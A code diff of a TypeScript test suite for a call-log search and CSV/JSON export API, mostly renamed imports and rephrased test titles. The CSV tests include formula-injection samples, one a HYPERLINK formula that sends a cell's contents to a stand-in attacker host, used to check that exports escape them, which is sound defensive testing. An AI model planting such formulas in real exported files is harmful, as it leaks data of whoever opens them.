@@ -2,14 +2,14 @@
 import test, { type ExecutionContext } from 'ava';
 import * as fc from 'fast-check';
 import { z } from 'zod';
-import { csvLine } from '#src/api/csv.ts';
-import { decodeMomentCursor, encodeMomentCursor } from '#src/api/cursor.ts';
+import { csvLine } from '#src/api/http/csv.ts';
+import { decodeMomentCursor, encodeMomentCursor } from '#src/api/http/cursor.ts';
 import { mostExported, notAllExported } from '#src/domain/call-export.ts';
 import type { EndReason } from '#src/domain/end-reasons.ts';
-import { recordFact } from '#src/persistence/call-facts.ts';
-import { callRecords } from '#src/persistence/call-records.ts';
-import { type CallBirth, type CallRecord, insertEndedCall } from '#src/persistence/calls.ts';
-import { wordsOfAllSummaries } from '#src/persistence/migrations/searched-summaries.ts';
+import { recordFact } from '#src/persistence/calls/call-facts.ts';
+import { callRecords } from '#src/persistence/calls/call-records.ts';
+import { type CallBirth, type CallRecord, insertEndedCall } from '#src/persistence/calls/calls.ts';
+import { searchesSummary } from '#src/persistence/calls/call-search-words.ts';
 import { readCsv } from '#test/helpers/read-csv.ts';
 import { scriptedStatements } from '#test/helpers/scripted-database.ts';
 import { callBirth, storedCall } from '#test/helpers/stored-number.ts';
@@ -27,7 +27,7 @@ const ownerIn = ({ workspaceId, number }: FakeGateway) => ({
   number: number.number,
 });
 
-/** A call in which these words were said, as a gateway writes it; without a reason it goes on. */
+/** A call in which these words were spoken, as a gateway writes it; without an end reason it is active. */
 const talk = async (
   gateway: FakeGateway,
   birth: Partial<CallBirth>,
@@ -70,52 +70,48 @@ const finds = async (
   for (const q of searches) t.deepEqual((await found(gateway, { q })).toSorted(), expected.toSorted(), q);
 };
 
-test.serial(
-  'a call is found by what was said, in any language, by the beginnings of its words',
-  async (t) => {
-    const gateway = await fakeGateway(t);
-    const korean = await talk(gateway, { instruction: '예약 변경' }, [
-      '“안녕하세요”, 예약을 확인해 드릴게요…',
-      '네. 금요일(오후)로 옮겨 주세요！',
-    ]);
-    const german = await talk(gateway, { instruction: null }, [
-      'Grüße aus ÖSTERREICH.',
-      'e-mail an info@example.com, 3.5 %',
-    ]);
-    await finds(
-      t,
-      gateway,
-      [korean],
-      ['예약', '예약 금요', '옮겨', '오후', '안녕', '변경', '네', '금요일로'.slice(0, 3)],
-    );
-    await finds(t, gateway, [german], ['ÖSTER', 'österreich', 'grüße', 'mail example', '3 5', 'INFO']);
-    // A single letter is a whole word, and a word is not found by its end.
-    await finds(t, gateway, [], ['예', '약', '요일', 'reich', '예약 헬리콥터']);
-  },
-);
+test.serial('finds a call by spoken words in any language, by the beginnings of words', async (t) => {
+  const gateway = await fakeGateway(t);
+  const korean = await talk(gateway, { instruction: '예약 변경' }, [
+    '“안녕하세요”, 예약을 확인해 드릴게요…',
+    '네. 금요일(오후)로 옮겨 주세요！',
+  ]);
+  const german = await talk(gateway, { instruction: null }, [
+    'Grüße aus ÖSTERREICH.',
+    'e-mail an info@example.com, 3.5 %',
+  ]);
+  await finds(
+    t,
+    gateway,
+    [korean],
+    ['예약', '예약 금요', '옮겨', '오후', '안녕', '변경', '네', '금요일로'.slice(0, 3)],
+  );
+  await finds(t, gateway, [german], ['ÖSTER', 'österreich', 'grüße', 'mail example', '3 5', 'INFO']);
+  // A single letter is a whole word, and a word is not found by its end.
+  await finds(t, gateway, [], ['예', '약', '요일', 'reich', '예약 헬리콥터']);
+});
+
+test.serial('finds a call by its summary, also one stored before summaries were indexed', async (t) => {
+  const gateway = await fakeGateway(t);
+  const { database } = gateway;
+  const id = await talk(gateway, {}, ['여보세요']);
+  await finds(t, gateway, [], ['재방문']);
+  const at = beginning.getTime();
+  await recordFact(database, id, 4, { type: 'call.summarized', at, summary: '고객이 재방문을 원함.' });
+  await finds(t, gateway, [id], ['재방문', '여보세요', '재방 여보', '0000']);
+
+  const old = await talk(gateway, {}, ['안녕하세요']);
+  await database.execute('update call set summary = $1 where id = $2', ['환불, 예정', old]);
+  await finds(t, gateway, [], ['환불']);
+  await database.execute(
+    `with call_after as (select * from call where id = '${old}'), ${searchesSummary} select 1`,
+  );
+  await finds(t, gateway, [old], ['환불', '예정 안녕']);
+  await finds(t, gateway, [id], ['재방문']);
+});
 
 test.serial(
-  'a call is found by its summary as well, which comes after the end, and by one of before',
-  async (t) => {
-    const gateway = await fakeGateway(t);
-    const { database } = gateway;
-    const id = await talk(gateway, {}, ['여보세요']);
-    await finds(t, gateway, [], ['재방문']);
-    const at = beginning.getTime();
-    await recordFact(database, id, 4, { type: 'call.summarized', at, summary: '고객이 재방문을 원함.' });
-    await finds(t, gateway, [id], ['재방문', '여보세요', '재방 여보', '0000']);
-
-    const old = await talk(gateway, {}, ['안녕하세요']);
-    await database.execute('update call set summary = $1 where id = $2', ['환불, 예정', old]);
-    await finds(t, gateway, [], ['환불']);
-    await database.execute(wordsOfAllSummaries);
-    await finds(t, gateway, [old], ['환불', '예정 안녕']);
-    await finds(t, gateway, [id], ['재방문']);
-  },
-);
-
-test.serial(
-  'a call is found by its number: any four digits of it, as people write them, also while it goes on',
+  'finds a call by any four digits of its number in any notation, also an active one',
   async (t) => {
     const gateway = await fakeGateway(t);
     const over = await talk(gateway, { counterparty: '01012345678' }, []);
@@ -134,7 +130,7 @@ test.serial(
   },
 );
 
-test.serial('a call is found by its id, and by the first eight characters of it', async (t) => {
+test.serial('finds a call by its id and by the first eight characters of it', async (t) => {
   const gateway = await fakeGateway(t);
   const id = 'abcdef01-4f0e-4b7e-9b1c-2d1d5a1e0c11';
   await talk(gateway, { id }, []);
@@ -142,7 +138,7 @@ test.serial('a call is found by its id, and by the first eight characters of it'
   await finds(t, gateway, [], ['abcdef02', 'abcdef01-5']);
 });
 
-test.serial('nobody finds calls of another workspace, and none that were deleted', async (t) => {
+test.serial('does not find calls of other workspaces or deleted ones', async (t) => {
   const gateway = await fakeGateway(t);
   const id = await talk(gateway, {}, ['비밀 이야기']);
   await finds(t, gateway, [id], ['비밀', '0000']);
@@ -155,40 +151,37 @@ test.serial('nobody finds calls of another workspace, and none that were deleted
   t.deepEqual(await gateway.database.execute('select * from call_search where call_id = $1', [id]), []);
 });
 
-test.serial(
-  'what is found comes page by page, the newest or the oldest first, with every filter',
-  async (t) => {
-    const gateway = await fakeGateway(t);
-    const ids: string[] = [];
-    for (const second of [0, 1, 1, 2, 3]) {
-      const startedAt = new Date(beginning.getTime() + second * 1_000);
-      ids.push(await talk(gateway, { startedAt }, ['배송 문의'], second === 3 ? 'busy' : 'agent_hangup'));
-    }
-    const [first = '', , , , last = ''] = ids;
-    for (const order of ['newest', 'oldest']) {
-      for (const q of ['배송', '0000']) {
-        const pages: string[] = [];
-        let query = `?limit=2&order=${order}&q=${encodeURIComponent(q)}`;
-        for (;;) {
-          const page = listed.parse((await gateway.admin.get(`${searchPath}${query}`)).body);
-          pages.push(...page.calls.map(({ id }) => id));
-          if (page.next_cursor === null) break;
-          query = `?limit=2&order=${order}&q=${encodeURIComponent(q)}&cursor=${page.next_cursor}`;
-        }
-        t.deepEqual(pages, await found(gateway, { q, order }));
-        t.deepEqual(pages.toSorted(), ids.toSorted());
-        t.is(order === 'newest' ? pages[0] : pages.at(-1), last);
-        t.is(order === 'newest' ? pages.at(-1) : pages[0], first);
+test.serial('returns results page by page, newest or oldest first, with every filter', async (t) => {
+  const gateway = await fakeGateway(t);
+  const ids: string[] = [];
+  for (const second of [0, 1, 1, 2, 3]) {
+    const startedAt = new Date(beginning.getTime() + second * 1_000);
+    ids.push(await talk(gateway, { startedAt }, ['배송 문의'], second === 3 ? 'busy' : 'agent_hangup'));
+  }
+  const [first = '', , , , last = ''] = ids;
+  for (const order of ['newest', 'oldest']) {
+    for (const q of ['배송', '0000']) {
+      const pages: string[] = [];
+      let query = `?limit=2&order=${order}&q=${encodeURIComponent(q)}`;
+      for (;;) {
+        const page = listed.parse((await gateway.admin.get(`${searchPath}${query}`)).body);
+        pages.push(...page.calls.map(({ id }) => id));
+        if (page.next_cursor === null) break;
+        query = `?limit=2&order=${order}&q=${encodeURIComponent(q)}&cursor=${page.next_cursor}`;
       }
+      t.deepEqual(pages, await found(gateway, { q, order }));
+      t.deepEqual(pages.toSorted(), ids.toSorted());
+      t.is(order === 'newest' ? pages[0] : pages.at(-1), last);
+      t.is(order === 'newest' ? pages.at(-1) : pages[0], first);
     }
-    t.deepEqual(await found(gateway, { q: '배송', end_reason: 'busy' }), [last]);
-    t.deepEqual(await found(gateway, { end_reason: 'busy' }), [last]);
-    t.deepEqual(await found(gateway, { q: '배송', since: '2026-11-21T03:00:03Z' }), [last]);
-    t.deepEqual(await found(gateway, { q: '배송', direction: 'inbound' }), []);
-  },
-);
+  }
+  t.deepEqual(await found(gateway, { q: '배송', end_reason: 'busy' }), [last]);
+  t.deepEqual(await found(gateway, { end_reason: 'busy' }), [last]);
+  t.deepEqual(await found(gateway, { q: '배송', since: '2026-11-21T03:00:03Z' }), [last]);
+  t.deepEqual(await found(gateway, { q: '배송', direction: 'inbound' }), []);
+});
 
-test.serial('days are those of the time zone of the workspace', async (t) => {
+test.serial('days use the time zone of the workspace', async (t) => {
   const gateway = await fakeGateway(t);
   const on = (moment: string) => talk(gateway, { startedAt: new Date(moment) }, []);
   const before = await on('2026-11-20T23:59:59.999+09:00');
@@ -203,17 +196,14 @@ test.serial('days are those of the time zone of the workspace', async (t) => {
   ]);
 });
 
-test.serial(
-  'a call is listed with its number, its duration, and the delay that 95 % of its turns kept',
-  async (t) => {
-    const gateway = await fakeGateway(t);
-    await talk(gateway, {}, ['하나', '둘', '셋', '넷', '다섯']);
-    const { calls } = (await gateway.admin.get(searchPath)).body;
-    t.like(calls, [{ number: gateway.number.number, duration_sec: 0, turn_latency_p95_ms: 800 }]);
-  },
-);
+test.serial('lists a call with its number, duration and 95th percentile of turn latency', async (t) => {
+  const gateway = await fakeGateway(t);
+  await talk(gateway, {}, ['하나', '둘', '셋', '넷', '다섯']);
+  const { calls } = (await gateway.admin.get(searchPath)).body;
+  t.like(calls, [{ number: gateway.number.number, duration_sec: 0, turn_latency_p95_ms: 800 }]);
+});
 
-test.serial('what nobody can look for is refused by its field', async (t) => {
+test.serial('rejects an invalid filter and names its field', async (t) => {
   const gateway = await fakeGateway(t);
   const faults = {
     q: ['', '…', '?!', 'x'.repeat(101), 'a b c d e f g h i', '\0'],
@@ -230,7 +220,7 @@ test.serial('what nobody can look for is refused by its field', async (t) => {
     }
 });
 
-test.serial('a list is a file for a spreadsheet as well, with the same filters', async (t) => {
+test.serial('returns a list as CSV with the same filters', async (t) => {
   const gateway = await fakeGateway(t);
   const id = await talk(gateway, { instruction: '=HYPERLINK("http://example.com")' }, ['배송 문의']);
   await talk(gateway, {}, ['다른 이야기']);
@@ -272,7 +262,7 @@ const storeMany = ({ database, workspaceId, number }: FakeGateway, count: number
     [workspaceId, number.id, count],
   );
 
-test.serial('a file has the calls of all pages, in their order', async (t) => {
+test.serial('a CSV file has the calls of all pages in order', async (t) => {
   const gateway = await fakeGateway(t);
   await storeMany(gateway, 1001);
   const { bytes } = await gateway.admin.get(`${searchPath}.csv?order=oldest`);
@@ -282,25 +272,22 @@ test.serial('a file has the calls of all pages, in their order', async (t) => {
   t.deepEqual(times, times.toSorted());
 });
 
-test.serial(
-  'a file that has no room for all calls says so in its last line, as wide as the others',
-  async (t) => {
-    const gateway = await fakeGateway(t);
-    await storeMany(gateway, mostExported);
-    const linesOf = async () =>
-      readCsv((await gateway.admin.get(`${searchPath}.csv`)).bytes.subarray(3).toString());
-    const all = await linesOf();
-    t.is(all.length, 1 + mostExported);
-    t.regex(all.at(-1)?.[0] ?? '', /^\d{4}-/);
+test.serial('a truncated CSV file says so in its last line, with the full column count', async (t) => {
+  const gateway = await fakeGateway(t);
+  await storeMany(gateway, mostExported);
+  const linesOf = async () =>
+    readCsv((await gateway.admin.get(`${searchPath}.csv`)).bytes.subarray(3).toString());
+  const all = await linesOf();
+  t.is(all.length, 1 + mostExported);
+  t.regex(all.at(-1)?.[0] ?? '', /^\d{4}-/);
 
-    await storeMany(gateway, 1);
-    const cut = await linesOf();
-    t.is(cut.length, 1 + mostExported + 1);
-    t.deepEqual(cut.at(-1), [notAllExported, ...Array.from({ length: (all[0]?.length ?? 0) - 1 }, () => '')]);
-  },
-);
+  await storeMany(gateway, 1);
+  const cut = await linesOf();
+  t.is(cut.length, 1 + mostExported + 1);
+  t.deepEqual(cut.at(-1), [notAllExported, ...Array.from({ length: (all[0]?.length ?? 0) - 1 }, () => '')]);
+});
 
-test.serial('calls of a trunk are found, also of one of the configuration', async (t) => {
+test.serial('finds calls of a trunk, including the configured one', async (t) => {
   const gateway = await fakeGateway(t);
   const over = await storeCall(gateway, { trunkId: 'configured', trunkName: 'GW_TRUNK' });
   await storeCall(gateway, { trunkId: 'another', trunkName: 'another' });
@@ -313,10 +300,10 @@ test.serial('calls of a trunk are found, also of one of the configuration', asyn
 // Search too broad
 
 test.serial(
-  'a search that would take too long is refused, as a list and as a file; the list without it is not',
+  'rejects a search that would take too long as list and as file, but not the plain list',
   async (t) => {
     const { admin, database } = await fakeGateway(t);
-    // Nobody reads the index while somebody else has it alone: to the server that is a statement that takes long.
+    // The index cannot be read while it is locked: to the server, that is a statement that takes long.
     await database.transaction(async ({ execute }) => {
       await execute('lock table call_search in access exclusive mode');
       for (const path of ['/api/v1/admin/calls', '/api/v1/admin/calls.csv']) {
@@ -335,7 +322,7 @@ test.serial(
 
 const moment = fc.date({ min: new Date(0), max: new Date('9999-12-31T23:59:59.999Z'), noInvalidDate: true });
 
-test('a cursor comes back as what it was made of', (t) => {
+test('a cursor round-trips', (t) => {
   fc.assert(
     fc.property(moment, fc.uuid(), (at, id) => {
       t.deepEqual(decodeMomentCursor(encodeMomentCursor({ at, id })), { at, id });
@@ -343,7 +330,7 @@ test('a cursor comes back as what it was made of', (t) => {
   );
 });
 
-test('a cursor holds nothing that must be escaped in a URL', (t) => {
+test('a cursor needs no URL escaping', (t) => {
   fc.assert(
     fc.property(moment, fc.uuid(), (at, id) => {
       const cursor = encodeMomentCursor({ at, id });
@@ -352,7 +339,7 @@ test('a cursor holds nothing that must be escaped in a URL', (t) => {
   );
 });
 
-test('anything else is no cursor', (t) => {
+test('rejects any other text as a cursor', (t) => {
   fc.assert(
     fc.property(fc.oneof(fc.string(), fc.base64String()), (text) => {
       const cursor = decodeMomentCursor(text);
@@ -364,7 +351,7 @@ test('anything else is no cursor', (t) => {
   }
 });
 
-test('a cursor that was changed by one character is refused or names another place', (t) => {
+test('a cursor changed by one character is rejected or points elsewhere', (t) => {
   const cursor = encodeMomentCursor({ at: new Date(0), id: '11111111-2222-4333-8444-555555555555' });
   fc.assert(
     fc.property(
@@ -390,7 +377,7 @@ const recordsIn = (csv: string): Record<string, string>[] => {
   return lines.map((cells) => Object.fromEntries(cells.map((cell, index) => [names[index] ?? '', cell])));
 };
 
-test.serial('a record has everything that is known of a call', async (t) => {
+test.serial('a call record has everything known about a call', async (t) => {
   const gateway = await fakeGateway(t);
   const call = await storeCall(gateway, {
     sipStatus: 200,
@@ -437,7 +424,7 @@ test.serial('a record has everything that is known of a call', async (t) => {
   });
 });
 
-test.serial('as JSON lines each record is the same as a read of the call', async (t) => {
+test.serial('a record in JSON lines equals a read of the call', async (t) => {
   const gateway = await fakeGateway(t);
   const first = await storeCall(gateway, { startedAt: at(0), summary: 'Two\nlines.' });
   const second = await storeCall(gateway, {
@@ -460,7 +447,7 @@ test.serial('as JSON lines each record is the same as a read of the call', async
   );
 });
 
-test.serial('a time is from its beginning to before its end, in order', async (t) => {
+test.serial('filters by start time, including the start and excluding the end, in order', async (t) => {
   const gateway = await fakeGateway(t);
   const ids: string[] = [];
   for (const minute of [2, 0, 3, 1]) ids[minute] = (await storeCall(gateway, { startedAt: at(minute) })).id;
@@ -473,7 +460,7 @@ test.serial('a time is from its beginning to before its end, in order', async (t
   t.deepEqual(await idsOf('?since=2026-11-21T04:00:00Z'), []);
 });
 
-test.serial('nobody sees records of another workspace, and a number key sees none', async (t) => {
+test.serial('hides records of other workspaces and rejects number keys', async (t) => {
   const gateway = await fakeGateway(t);
   await storeCall(gateway);
   const other = gateway.admin.as((await addWorkspace(gateway.database)).adminToken);
@@ -481,7 +468,7 @@ test.serial('nobody sees records of another workspace, and a number key sees non
   t.is((await gateway.client.get(recordsPath)).status, 401);
 });
 
-test.serial('what cannot be asked for is named', async (t) => {
+test.serial('names unsupported parameters', async (t) => {
   const { admin } = await fakeGateway(t);
   t.like((await admin.get(`${recordsPath}?format=xls&since=yesterday`)).body, {
     code: 'invalid_request',
@@ -491,7 +478,7 @@ test.serial('what cannot be asked for is named', async (t) => {
   t.is(head.status, 200);
 });
 
-test.serial('pages join without gap or double, also where calls started at the same moment', async (t) => {
+test.serial('pages join without gap or duplicate, even for equal start times', async (t) => {
   const gateway = await fakeGateway(t);
   const stored: string[] = [];
   for (let count = 0; count < 7; count += 1) {
@@ -507,7 +494,7 @@ test.serial('pages join without gap or double, also where calls started at the s
   }
 });
 
-test.serial('a file is made while it is read: nobody waits for the whole of it', async (t) => {
+test.serial('streams a file while it is generated', async (t) => {
   const gateway = await fakeGateway(t);
   await storeCall(gateway);
   const statements: string[] = [];
@@ -533,11 +520,11 @@ test.serial('a file is made while it is read: nobody waits for the whole of it',
 
 // CSV
 
-test('cells are separated by commas, and a line ends as RFC 4180 wants it', (t) => {
+test('separates cells by commas and ends lines as in RFC 4180', (t) => {
   t.is(csvLine(['a', 1.5, true, null, '']), 'a,1.5,true,,\r\n');
 });
 
-test('what would break a line or a cell is quoted', (t) => {
+test('quotes cells with line breaks, commas or quotes', (t) => {
   t.is(csvLine(['a,b', 'say "no"', 'two\nlines']), '"a,b","say ""no""","two\nlines"\r\n');
 });
 
@@ -545,7 +532,7 @@ const formula = test.macro<[string]>({
   exec(t, text) {
     t.deepEqual(readCsv(csvLine(['x', text])), [['x', `'${text}`]]);
   },
-  title: (_, text) => `${JSON.stringify(text)} is no formula any more`,
+  title: (_, text) => `escapes the formula ${JSON.stringify(text)}`,
 });
 
 test(formula, '=HYPERLINK("http://evil.example/?"&A1,"click")');
@@ -559,7 +546,7 @@ const formulaWithin = test.macro<[string, string]>({
   exec(t, text, safe) {
     t.deepEqual(readCsv(csvLine(['x', text])), [['x', safe]]);
   },
-  title: (_, text) => `${JSON.stringify(text)} has no formula in it any more`,
+  title: (_, text) => `escapes formulas within ${JSON.stringify(text)}`,
 });
 
 test(formulaWithin, '\t=1', "'\t'=1");
@@ -570,15 +557,15 @@ test(formulaWithin, 'x\n@SUM(A1)', "x\n'@SUM(A1)");
 test(formulaWithin, 'x;"=1+1"', 'x;\'"=1+1"');
 test(formulaWithin, 'x; ＝1;-2', "x;' ＝1;'-2");
 
-test('a cell is quoted where programs of other languages would split it', (t) => {
+test('quotes cells that programs of other locales would split', (t) => {
   t.is(csvLine(['a;b', 'a\tb']), '"a;b","a\tb"\r\n');
 });
 
-test('numbers, also negative ones, stay numbers', (t) => {
+test('keeps numbers, including negative ones, as numbers', (t) => {
   t.is(csvLine([-1, 0]), '-1,0\r\n');
 });
 
-test('whatever the cells hold, they are read as they were, and none is a formula', (t) => {
+test('any cells are read back unchanged and contain no formula', (t) => {
   const text = fc.string({
     unit: fc.constantFrom('a', '가', '"', ',', ';', '\n', '\r', '\t', '=', '+', '@', ' ', "'"),
   });
